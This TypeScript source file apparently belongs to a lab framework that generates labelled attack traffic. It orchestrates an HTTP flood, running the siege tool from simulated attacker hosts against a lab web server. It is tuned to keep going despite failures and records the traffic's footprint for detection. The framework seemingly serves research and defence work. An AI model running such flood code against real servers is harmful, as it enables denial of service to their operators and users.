import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Attack, TimeWindow } from '../scenario.ts';
import { towards } from './footprint.ts';

/** One attacker's siege of the web server. */
export interface Siege {
  readonly attacker: number;
  readonly port: 80 | 443;
  readonly paths: readonly string[];
  readonly users: number;
  /** Most seconds that a user waits before a request, half of it on average; 0: none. */
  readonly delaySeconds: number;
  /** Whether a connection serves many requests, or one. */
  readonly keepAlive: boolean;
}

/** siege against a list of pages until its window is over. */
export function siegeFlood(siege: Siege, window: TimeWindow): Attack {
  return {
    ...window,
    family: 'http-flood',
    async play(lab, signal) {
      const name = `siege-${siege.attacker}-${window.startMs}`;
      const urls = join(lab.scratch, `${name}.txt`);
      const settings = join(lab.scratch, `${name}.conf`);
      const base = `${siege.port === 443 ? 'https' : 'http'}://${lab.hosts.web.ip}:${siege.port}`;
      await writeFile(urls, siege.paths.map((path) => `${base}${path}\n`).join(''));
      await writeFile(settings, settingsText(siege, urls));
      const seconds = Math.ceil((window.endMs - window.startMs) / 1_000);
      const load = ['-c', String(siege.users), '-d', String(siege.delaySeconds), '-t', `${seconds}S`];
      const argv = ['siege', '-q', '-i', '-R', settings, ...load, ...(siege.delaySeconds === 0 ? ['-b'] : [])];
      // siege writes a settings file of its own into its home.
      await lab.run(lab.hosts.attackers[siege.attacker], ['env', `HOME=${lab.scratch}`, ...argv], signal);
    },
    footprint: towards(siege.attacker, { victim: 'web', port: siege.port }),
  };
}

function settingsText(siege: Siege, urls: string): string {
  const lines = [
    `connection = ${siege.keepAlive ? 'keep-alive' : 'close'}`,
    'logging = false',
    'parser = false',
    // Broken pages are part of a flood: siege must not give up.
    'failures = 1000000',
    'timeout = 5',
    `file = ${urls}`,
    'limit = 255',
  ];
  return `${lines.join('\n')}\n`;
}
